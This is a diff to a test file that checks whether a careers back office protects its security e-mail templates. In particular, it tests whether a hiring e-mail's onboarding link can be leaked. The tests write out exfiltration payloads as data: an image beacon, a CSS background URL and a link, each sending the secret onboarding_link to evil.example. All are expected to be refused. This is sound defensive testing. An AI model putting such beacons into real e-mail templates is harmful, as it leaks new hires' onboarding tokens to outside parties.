@@ -2,7 +2,8 @@
 // change them, and no writer at all can deactivate them, delete them or take out their code or link.
 import { messages, SECURITY_EMAIL_TEMPLATES } from '@careers/shared';
 import { beforeAll, describe, expect, it } from 'vitest';
-import { createAdmin, signIn } from '../support/admin-session';
+import { createAdmin, postJson, signIn } from '../support/admin-session';
+import { adminWithFlags } from '../support/custom-role';
 import { type PanelEditor, signInAsEditor } from '../support/panel-editor';
 import { type TestServer, useTestServer } from '../support/test-server';
 
@@ -65,7 +66,7 @@ describe('in /cms, the content editor', () => {
 });
 
 describe.each(SECURITY_KEYS)('no writer can break %s', (key) => {
-  const { name, variable } = SECURITY_EMAIL_TEMPLATES[key];
+  const { name, variable, secret } = SECURITY_EMAIL_TEMPLATES[key];
   const documents = () => server.strapi.documents(EMAIL_TEMPLATE);
 
   it('through the document service: deactivating, removing its variable, renaming or deleting', async () => {
@@ -106,7 +107,8 @@ describe.each(SECURITY_KEYS)('no writer can break %s', (key) => {
 
   it('while a change that keeps it working is saved', async () => {
     const before = await template(key);
-    const body = `<p>Hello.</p><p>{{ ${variable} }}</p>`;
+    const shown = secret === 'link' ? `<a href="{{ ${variable} }}">Open</a>` : `{{ ${variable} }}`;
+    const body = `<p>Hello.</p><p>${shown}</p>`;
     await server.strapi.documents(EMAIL_TEMPLATE).update({ documentId: before.documentId, data: { body } });
     expect((await template(key)).body).toBe(body);
     await server.strapi.db.query(EMAIL_TEMPLATE).update({ where: { id: before.id }, data: { body: before.body } });
@@ -125,4 +127,69 @@ it('keeps back-office sign-in working when someone tries to switch its e-mail of
   const cookie = await signIn(server, admin);
   expect(cookie).toMatch(/^careers_admin_session=/);
   expect((await template('sign_in_code')).is_active).toBe(true);
+});
+
+describe("the hiring congratulations e-mail, which carries the new hire's onboarding link", () => {
+  const KEY = 'hiring_congratulations';
+  const NAME = 'Hiring congratulations';
+  const save = (documentId: string, body: unknown, cookie: string) =>
+    postJson(server, `/api/backoffice/email-templates/${documentId}`, body, cookie, 'PUT') as Promise<{
+      status: number;
+      body: { error?: { message: string } };
+    }>;
+  const withBeacon = (body: string) => `${body}<img src="https://evil.example/p?{{onboarding_link}}">`;
+
+  it('is a security e-mail: /cms editors and settings-only admins cannot change it', async () => {
+    const before = await template(KEY);
+    const opened = await editor.request('GET', `${PANEL}/${before.documentId}`);
+    expect(opened.status).toBe(403);
+    const changed = await editor.request('PUT', `${PANEL}/${before.documentId}`, { body: withBeacon(before.body) });
+    expect(changed.status).toBe(403);
+
+    const settingsOnly = await signIn(server, await adminWithFlags(server, ['manage_settings']));
+    const attack = await save(
+      before.documentId,
+      { subject: before.subject, body: withBeacon(before.body), is_active: true },
+      settingsOnly,
+    );
+    expect(attack.status).toBe(403);
+    expect(attack.body.error?.message).toBe(messages.emailTemplates.securityTemplateFullAccessOnly(NAME));
+    const off = await save(
+      before.documentId,
+      { subject: before.subject, body: before.body, is_active: false },
+      settingsOnly,
+    );
+    expect(off.status).toBe(403);
+    expect(await template(KEY)).toEqual(before);
+  });
+
+  it('lets the admin with every permission change it, but never send the link or load anything elsewhere', async () => {
+    const before = await template(KEY);
+    const full = await signIn(server, await createAdmin(server, 'super_admin'));
+    const attempts: [string, boolean, string][] = [
+      [before.body, false, messages.emailTemplates.securityTemplateActive(NAME)],
+      [withBeacon(before.body), true, messages.emailTemplates.securityTemplateOutsideContent(NAME)],
+      [
+        `${before.body}<p style="background:url(https://evil.example/p)">x</p>`,
+        true,
+        messages.emailTemplates.securityTemplateOutsideContent(NAME),
+      ],
+      [
+        '<p><a href="https://evil.example/?l={{onboarding_link}}">Complete my onboarding</a></p>',
+        true,
+        messages.emailTemplates.securityTemplateSecretPlacement(NAME, 'onboarding_link', 'link'),
+      ],
+    ];
+    for (const [body, is_active, message] of attempts) {
+      const refused = await save(before.documentId, { subject: before.subject, body, is_active }, full);
+      expect(refused.status).toBe(400);
+      expect(refused.body.error?.message).toBe(message);
+    }
+    expect(await template(KEY)).toEqual(before);
+
+    const body = `${before.body}<p>See you soon.</p>`;
+    expect((await save(before.documentId, { subject: before.subject, body, is_active: true }, full)).status).toBe(200);
+    expect((await template(KEY)).body).toBe(body);
+    await server.strapi.db.query(EMAIL_TEMPLATE).update({ where: { id: before.id }, data: { body: before.body } });
+  });
 });
